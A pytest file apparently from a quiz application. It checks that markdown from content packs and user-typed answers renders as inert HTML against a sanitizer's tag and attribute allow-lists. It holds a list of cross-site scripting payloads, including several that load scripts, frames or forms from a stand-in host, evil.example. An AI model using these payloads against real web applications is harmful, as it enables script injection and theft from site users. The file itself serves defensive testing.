"""Markdown from packs and text typed by managers come out as inert HTML."""

from html.parser import HTMLParser

import pytest

from drill.content.rules.questions import render_spec
from drill.content.rules.render import ATTRIBUTES, TAGS, render_answer, render_markdown
from tests.content.broken import quiz

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=images/a.png onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--<img src=x onerror=alert(1)>-->",
    "--><script>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=https://evil.example><input name=p><button>go</button></form>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    '<p onclick="alert(1)" onmouseover="alert(1)">hover</p>',
    "<details open ontoggle=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<a href="//evil.example">protocol-relative</a>',
    '<a href="/\\evil.example">backslash</a>',
    "<table><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.bad.append(f"tag {tag}")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()) and not (tag == "a" and name == "rel"):
                self.bad.append(f"attribute {name} on {tag}")
            if name in ("href", "src") and value:
                ok = value.startswith(("http://", "https://", "mailto:", "/content/assets/", "#"))
                if tag == "img":
                    ok = value.startswith("/content/assets/")
                if not ok:
                    self.bad.append(f"{name}={value}")

    def handle_comment(self, data):
        self.bad.append("comment")


def inert(html: str) -> bool:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert not inspector.bad, (inspector.bad, html)
    return True


def resolve(path: str) -> str:
    return f"/content/assets/{'0' * 64}/{path}"


@pytest.mark.parametrize("payload", XSS)
def test_hostile_markdown_in_a_pack_renders_inert(parse, payload):
    text = quiz(body=f"题干 {payload}\n\n- [x] 甲 {payload}\n- [ ] 乙", explanation=f"\n\n解析: {payload}\n")
    pack = parse(text)
    assert pack.questions, pack.problems.items
    spec = render_spec(pack.questions[0].spec, lambda source: render_markdown(source, resolve))
    for html in (spec["stem_html"], spec["explanation_html"], *(o["html"] for o in spec["options"])):
        assert inert(html)


@pytest.mark.parametrize("payload", XSS)
def test_hostile_text_typed_as_an_answer_renders_inert_and_readable(payload):
    html = render_answer(payload)
    assert inert(html)
    assert "<script" not in html.lower()


def test_an_answer_keeps_its_text_and_simple_markdown():
    html = render_answer("甲 <b>乙</b> & **丙**\n\n- 一\n- 二")
    assert "&lt;b&gt;乙&lt;/b&gt; &amp; <strong>丙</strong>" in html
    assert "<li>一</li>" in html


def test_pack_markdown_keeps_tables_lists_emphasis_and_pack_images():
    html = render_markdown("| a | b |\n|:-|-:|\n| 1 | 2 |\n\n1. x\n2. *y*\n\n![图](images/a.png)", resolve)
    assert '<th align="left">a</th>' in html and "<ol>" in html and "<em>y</em>" in html
    assert f'<img alt="图" src="/content/assets/{"0" * 64}/images/a.png">' in html


def test_outside_images_and_links_leaving_the_pack_are_dropped():
    html = render_markdown(
        "![x](https://example.com/a.png) [y](../secret.csv) [z](https://example.com)", resolve
    )
    assert "example.com/a.png" not in html and "secret" not in html
    assert '<a href="https://example.com" rel="noopener noreferrer">z</a>' in html
